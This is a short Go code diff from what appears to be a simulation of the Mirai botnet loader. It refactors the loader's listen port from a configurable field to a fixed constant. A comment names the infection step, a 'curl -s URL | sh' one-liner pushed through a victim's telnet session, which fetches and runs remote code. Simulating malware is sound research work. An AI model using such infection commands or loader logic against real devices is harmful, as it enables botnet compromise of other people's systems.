@@ -29,8 +29,6 @@ const (
 
 // LoaderConfig parameterizes the Mirai loader.
 type LoaderConfig struct {
-	// Port is the scanListen port. Defaults to ScanListenPort.
-	Port uint16
 	// InfectionCommand is the shell one-liner pushed through the
 	// victim's telnet session (curl -s URL | sh).
 	InfectionCommand string
@@ -73,9 +71,6 @@ var _ container.Behavior = (*Loader)(nil)
 
 // NewLoader creates the behaviour.
 func NewLoader(cfg LoaderConfig) *Loader {
-	if cfg.Port == 0 {
-		cfg.Port = ScanListenPort
-	}
 	return &Loader{
 		cfg:     cfg,
 		loaded:  make(map[netip.Addr]*pendingLoad),
@@ -89,7 +84,7 @@ func (l *Loader) Name() string { return "scanListen" }
 // Start implements container.Behavior.
 func (l *Loader) Start(p *container.Process) {
 	l.p = p
-	if _, err := p.ListenTCP(l.cfg.Port, l.accept); err != nil {
+	if _, err := p.ListenTCP(ScanListenPort, l.accept); err != nil {
 		p.Logf("loader: %v", err)
 	}
 }
